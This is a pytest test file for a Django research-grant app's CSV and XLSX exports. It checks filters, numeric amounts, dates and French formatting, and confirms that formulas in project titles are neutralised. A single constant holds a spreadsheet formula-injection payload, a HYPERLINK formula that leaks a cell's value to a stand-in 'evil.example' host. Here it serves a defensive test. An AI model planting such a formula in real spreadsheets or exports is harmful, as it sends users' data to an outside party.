"""The project list's CSV and XLSX exports: the rows the list's filters keep, amounts as numbers,
dates as dates, and what researchers typed neutralised (never a formula in staff's spreadsheets)."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from calls.models import Instrument
from projects.models import Payment
from projects.schedule import add_months

from .factories import bulk_projects

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&C3,"Click for details")'


def url(name, language="en"):
    return f"/{language}" + reverse(f"projects:{name}").removeprefix("/fr").removeprefix("/en")


def this_month():
    return timezone.localdate().replace(day=1)


def read_csv(response):
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def read_xlsx(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


@pytest.fixture
def projects(db):
    """Two PRI projects started this month (one titled with a formula, 12,000.50 paid on it) and a
    Tremplin one."""
    start = this_month()
    hostile, plain = bulk_projects(2, instrument=Instrument.Code.PRI, titles=[HOSTILE, "Ageing brains"], start=start)
    Payment.objects.create(project=hostile, amount=Decimal("12000.50"), paid_on=datetime.date(2026, 3, 2))
    tremplin = bulk_projects(1, instrument=Instrument.Code.TREMPLIN, amount="8000.00")
    return hostile, plain, tremplin[0]


def test_the_csv_export_holds_the_filtered_rows_with_iso_dates_and_decimal_amounts(client, staff, projects):
    hostile, plain, _tremplin = projects
    client.force_login(staff)
    response = client.get(url("staff_export_csv"), {"instrument": "PRI"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="projects-')
    rows = {row["Reference"]: row for row in read_csv(response)}
    assert sorted(rows) == sorted([hostile.reference, plain.reference])
    row = rows[hostile.reference]
    assert Decimal(row["Awarded (EUR)"]) == Decimal("60000.00")
    assert Decimal(row["Paid (EUR)"]) == Decimal("12000.50")
    assert Decimal(row["Remaining (EUR)"]) == Decimal("47999.50")
    assert row["Start date"] == this_month().isoformat()
    assert row["Next report due"] == add_months(this_month(), 12).isoformat()
    assert row["Partner countries"] == "Japan"
    assert row["Status"] == "Active"


def test_the_csv_export_neutralises_a_formula_in_a_title(client, staff, projects):
    hostile = projects[0]
    client.force_login(staff)
    rows = {row["Reference"]: row for row in read_csv(client.get(url("staff_export_csv")))}
    assert rows[hostile.reference]["Title"] == "'" + HOSTILE


def test_the_csv_export_in_french_splits_on_semicolons_with_decimal_commas(client, staff, projects):
    client.force_login(staff)
    response = client.get(url("staff_export_csv", language="fr"), {"instrument": "TREMPLIN"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Référence"] == projects[2].reference
    assert "8000,00" in rows[1]


def test_the_xlsx_export_holds_numbers_dates_and_the_title_as_neutral_text(client, staff, projects):
    hostile, plain, tremplin = projects
    client.force_login(staff)
    response = client.get(url("staff_export_xlsx"), {"instrument": "PRI"})
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    rows = {row["Reference"].value: row for row in read_xlsx(response)}
    assert sorted(rows) == sorted([hostile.reference, plain.reference])
    row = rows[hostile.reference]
    assert row["Title"].data_type == "s"
    assert row["Title"].value == "'" + HOSTILE
    assert row["Paid (EUR)"].data_type == "n"
    assert Decimal(str(row["Paid (EUR)"].value)) == Decimal("12000.50")
    assert Decimal(str(row["Awarded (EUR)"].value)) == Decimal("60000")
    assert row["Start date"].is_date
    assert row["Start date"].value.date() == this_month()
    assert row["Overdue reports"].value == 0


def test_the_exports_follow_the_filters_of_the_list(client, staff, projects):
    tremplin = projects[2]
    client.force_login(staff)
    list_page = client.get(url("staff_list"), {"instrument": "TREMPLIN"}).content.decode()
    assert f"{url('staff_export_csv')}?instrument=TREMPLIN" in list_page
    assert f"{url('staff_export_xlsx')}?instrument=TREMPLIN" in list_page
    rows = read_csv(client.get(url("staff_export_csv"), {"instrument": "TREMPLIN"}))
    assert [row["Reference"] for row in rows] == [tremplin.reference]
